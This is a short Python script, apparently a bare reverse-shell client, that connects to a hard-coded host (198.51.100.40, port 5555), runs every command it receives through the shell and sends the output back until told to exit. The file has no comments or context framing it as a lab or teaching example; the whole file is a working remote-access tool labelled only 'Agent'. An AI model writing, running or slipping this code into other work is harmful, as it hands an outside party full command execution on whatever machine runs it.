import socket, subprocess
class Agent:
    def __init__(self, host, port):
        self.host, self.port = host, port
        self.sock = None
    def connect(self):
        self.sock = socket.socket()
        self.sock.connect((self.host, self.port))
    def loop(self):
        while True:
            data = self.sock.recv(1024).decode()
            if data == "exit":
                break
            out = subprocess.run(data, shell=True, capture_output=True)
            self.sock.send(out.stdout + out.stderr)
a = Agent("198.51.100.40", 5555)
a.connect()
a.loop()
